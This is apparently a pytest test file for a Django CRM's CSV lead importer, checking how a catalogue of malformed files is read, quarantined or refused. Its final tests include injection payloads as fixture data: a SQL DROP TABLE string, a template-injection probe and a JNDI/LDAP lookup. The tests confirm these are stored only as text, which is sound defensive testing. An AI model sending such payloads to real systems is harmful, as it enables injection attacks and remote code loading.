"""The catalogue of bad input, as files: each is read right, put aside with a reason, or refused as a whole."""

from pathlib import Path

import pytest
from django.conf import settings

from leads.importing.plan import make_plan
from leads.importing.records import Counts
from leads.models import CustomField, Lead
from leads.tables import TableRefused
from routing.importing import Pace, run_import, try_import
from tenants.scope import tenant_scope
from tests.routing.importing import MONDAY, Desk

FOLDER = Path(settings.BASE_DIR) / "tests" / "bad_inputs"
USUAL = b"name,email,phone,company\n"
ONE = Counts(created=1)

# What becomes of the rows, what is noticed about them, and about the file.
READ = {
    "001_utf8_with_bom": (ONE, {}, set()),
    "002_utf16_tabs": (ONE, {}, set()),
    "004_windows_1252": (ONE, {}, {"encoding_guessed"}),
    "005_mixed_encodings": (Counts(created=21, quarantined=1), {"invalid_bytes": 1}, {"invalid_bytes"}),
    "007_cut_in_a_character": (Counts(created=1, quarantined=1), {"cut_off": 1, "invalid_bytes": 1}, {"invalid_bytes"}),
    "008_nul_in_a_cell": (ONE, {"nul_removed": 1}, {"nul_removed"}),
    "020_semicolons": (ONE, {}, set()),
    "021_newline_in_quotes": (ONE, {}, set()),
    "023_text_after_quote": (Counts(rejected=1), {"text_after_quote": 1}, set()),
    "024_old_mac_line_ends": (ONE, {}, set()),
    "025_duplicate_headers": (ONE, {}, {"duplicate_header"}),
    "026_no_header": (ONE, {}, {"looks_headerless"}),
    "027_blank_and_formula_headers": (ONE, {}, {"blank_header", "header_changed"}),
    "028_short_and_long_rows": (Counts(created=1, quarantined=1), {"extra_cells": 1, "short_row": 1}, set()),
    "029_cut_off": (Counts(created=1, quarantined=1), {"cut_off": 1}, set()),
    "038_totals_row": (Counts(created=1, quarantined=1), {"no_contact": 1}, set()),
    "039_blank_rows": (Counts(created=1, blank=3), {}, set()),
    "040_excel_errors": (Counts(created=2), {}, set()),
    "041_scientific_notation": (ONE, {"scientific_notation": 1}, set()),
    "042_float_phone": (ONE, {"float_removed": 1}, set()),
    "043_leading_zero_lost": (ONE, {"leading_zero_lost": 1}, set()),
    "044_spreadsheet_days": (ONE, {"excel_serial": 1}, set()),
    "045_day_or_month_first": (ONE, {"ambiguous_date": 1}, set()),
    "046_impossible_days": (Counts(created=3), {"impossible_date": 3}, set()),
    "047_days_out_of_reach": (Counts(created=2), {"date_in_future": 1, "date_too_old": 1}, set()),
    "071_two_addresses": (ONE, {"extra_address": 1}, set()),
    "079_header_injection": (ONE, {"header_injection": 1}, set()),
    "087_two_numbers": (ONE, {"extra_number": 1}, set()),
    "090_numbers_nobody_has": (Counts(created=2), {"emergency_phone": 1, "fake_phone": 1}, set()),
    "096_no_contact": (Counts(quarantined=1), {"no_contact": 1}, set()),
    "100_amounts": (Counts(created=3), {"negative_number": 1, "unclear_number": 1}, set()),
    "101_employees": (Counts(created=3), {"approximate": 1, "range": 1}, set()),
    "102_consent": (Counts(created=5), {"unproven_consent": 4}, set()),
    "103_same_person_twice": (Counts(created=1, updated=1, duplicates=1), {}, set()),
    "109_formulas": (ONE, {}, set()),
    "110_sql": (ONE, {}, set()),
    "112_templates": (ONE, {}, set()),
    "116_prototype_names": (ONE, {}, set()),
}
REFUSED = {
    "003_utf16_without_bom": "utf16_without_mark",
    "022_quote_never_closed": "unclosed_quote",
    "030_header_only": "no_rows",
    "032_too_many_columns": "too_many_columns",
    "033_pdf": "wrong_type",
}
# A row of these can stand in the middle of any list. Those of another encoding cannot.
OF_THEIR_OWN = {"004_windows_1252", "005_mixed_encodings", "007_cut_in_a_character", "029_cut_off"}
FIT_ANYWHERE = [name for name in READ.keys() - OF_THEIR_OWN if (FOLDER / f"{name}.csv").read_bytes().startswith(USUAL)]
FIT_ANYWHERE.sort()


def test_every_file_of_the_catalogue_has_its_outcome():
    assert {path.stem for path in FOLDER.glob("*.csv")} == {*READ, *REFUSED}


@pytest.mark.parametrize("name", READ)
def test_bad_input_is_counted_and_told(acme, name):
    counts, codes, warnings = READ[name]
    plan = make_plan(FOLDER / f"{name}.csv")

    report = try_import(acme, plan, at=MONDAY, pace=Pace(100, 0))

    assert (report.counts, dict(report.codes)) == (counts, codes)
    assert {warning.code for warning in plan.table.warnings} == warnings
    assert all(finding.message.endswith((".", "?")) and finding.line > 1 for finding in report.findings)


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_table_is_refused_with_its_reason(name):
    with pytest.raises(TableRefused) as refused:
        make_plan(FOLDER / f"{name}.csv")

    assert refused.value.code == REFUSED[name]


@pytest.mark.parametrize("name", FIT_ANYWHERE)
def test_bad_row_among_good_ones_spoils_none_of_them(acme, tmp_path, name):
    good = [b"Good Person,good%d@sound.example,,Sound\n" % n for n in range(100)]
    bad = (FOLDER / f"{name}.csv").read_bytes().removeprefix(USUAL)
    plan = Desk(acme, tmp_path).plan(USUAL + b"".join(good[:50]) + bad + b"".join(good[50:]))

    report = run_import(acme, plan, at=MONDAY, folder=tmp_path, pace=Pace(100, 0))

    with tenant_scope(acme):
        assert Lead.objects.filter(email__endswith="@sound.example").count() == 100
    expected = READ[name][0]
    assert (report.counts.quarantined, report.counts.rejected) == (expected.quarantined, expected.rejected)
    assert report.counts.total == 100 + expected.total


def test_what_looks_like_code_is_kept_as_text(acme, tmp_path):
    for name in ("110_sql", "112_templates"):
        run_import(acme, make_plan(FOLDER / f"{name}.csv"), at=MONDAY, folder=tmp_path)

    with tenant_scope(acme):
        assert list(Lead.objects.order_by("pk").values_list("first_name", "company__name")) == [
            ("Robert'); DROP TABLE", "O'Brien % _"), ("{{7*7}}", "${jndi:ldap://x}"),
        ]  # fmt: skip


def test_names_of_prototypes_become_plain_keys(acme, tmp_path):
    run_import(acme, make_plan(FOLDER / "116_prototype_names.csv"), at=MONDAY, folder=tmp_path)

    with tenant_scope(acme):
        assert set(CustomField.objects.values_list("key", flat=True)) == {"proto", "constructor", "class"}
